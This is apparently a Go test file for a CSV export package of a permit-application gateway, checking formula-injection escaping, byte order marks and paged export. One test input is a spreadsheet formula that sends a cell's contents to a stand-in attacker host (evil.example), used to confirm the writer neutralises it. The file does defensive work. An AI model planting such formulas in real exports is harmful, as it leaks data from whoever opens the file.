package packetcsv

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"tongban/gateway"
)

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	submitted := time.Date(2026, 3, 2, 1, 30, 0, 123456789, time.UTC) // 09:30 in Shanghai
	p := &gateway.Packet{ID: "pk-1", Item: "ENT-SETUP", Origin: "jiashan-window", Destination: "qingpu-amr", Status: "correction_requested",
		ApplicantType: "enterprise", Submitted: submitted, Updated: submitted.Add(time.Hour), Deadline: submitted.AddDate(0, 0, 7),
		LastSeq: 12, LastReason: "-1 页, \"签字\"\r\n+补充"}
	if err := w.Write(p, &gateway.Applicant{Name: `=HYPERLINK("http://evil.example/?"&A1,"点击")`}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(&gateway.Packet{ID: "pk-2", Status: "submitted", Overdue: true, LastReason: "@SUM(1)"}, nil); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	b, ok := bytes.CutPrefix(buf.Bytes(), []byte(bom))
	if !ok {
		t.Fatalf("no byte order mark: %q", buf.Bytes()[:8])
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		Header,
		{"pk-1", "ENT-SETUP", "jiashan-window", "qingpu-amr", "correction_requested", "2026-03-02T09:30:00+08:00", "2026-03-09T09:30:00+08:00",
			"false", "12", "2026-03-02T10:30:00+08:00", "enterprise", `'=HYPERLINK("http://evil.example/?"&A1,"点击")`, "'-1 页, \"签字\"\n+补充"},
		{"pk-2", "", "", "", "submitted", "", "", "true", "0", "", "", "", "'@SUM(1)"},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d:\n%s", len(rows), len(want), b)
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], want[i])
		}
	}
}

func TestWriterEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := NewWriter(&buf).Flush(); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), bom+strings.Join(Header, ",")+"\n"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestCells(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+86 21": "'+86 21", "-5": "'-5", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "a=b": "a=b", " =1": " =1", "上海": "上海", "'quoted": "'quoted",
	} {
		if got := Cells(in)[0]; got != want {
			t.Errorf("Cells(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportPages: Export writes every page, following the cursors,
// flushes after each, and stops at the first error with the rows before
// it sent (the caller then cuts the answer short). The listing is a fake
// here; the API's and the console's exports are tested over a real
// gateway.
func TestExportPages(t *testing.T) {
	pages := map[string]*gateway.Page{
		"":   {Packets: []*gateway.Packet{{ID: "pk-1"}, {ID: "pk-2"}}, NextCursor: "c2"},
		"c2": {Packets: []*gateway.Packet{{ID: "pk-3"}}, NextCursor: "c3"},
		"c3": {Packets: []*gateway.Packet{{ID: "pk-4"}}},
	}
	failAt := ""
	list := func(_ context.Context, _ gateway.Principal, q gateway.ListQuery) (*gateway.Page, error) {
		if q.Cursor == failAt {
			return nil, errors.New("disk on fire")
		}
		return pages[q.Cursor], nil
	}
	ids := func(b []byte) []string {
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte(bom)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r[0])
		}
		return out
	}
	var buf bytes.Buffer
	flushes := 0
	err := Export(context.Background(), list, gateway.Principal{}, gateway.ListQuery{}, pages[""], &buf, func() { flushes++ }, nil)
	if got := ids(buf.Bytes()); err != nil || strings.Join(got, ",") != "pk-1,pk-2,pk-3,pk-4" || flushes != 3 {
		t.Fatalf("export: %v, rows %v, %d flushes", err, got, flushes)
	}

	buf.Reset()
	failAt = "c3"
	err = Export(context.Background(), list, gateway.Principal{}, gateway.ListQuery{}, pages[""], &buf, func() {}, nil)
	if got := ids(buf.Bytes()); err == nil || strings.Join(got, ",") != "pk-1,pk-2,pk-3" {
		t.Fatalf("a listing failing at the third page: %v, rows %v", err, got)
	}

	buf.Reset()
	failAt = ""
	named := func(p *gateway.Packet) (*gateway.Applicant, error) {
		if p.ID == "pk-2" {
			return nil, errors.New("manifest unreadable")
		}
		return &gateway.Applicant{Name: "张三"}, nil
	}
	err = Export(context.Background(), list, gateway.Principal{}, gateway.ListQuery{}, pages[""], &buf, func() {}, named)
	if err == nil || strings.Contains(buf.String(), "pk-2") {
		t.Fatalf("an applicant failing: %v, wrote %q", err, buf.String())
	}
}
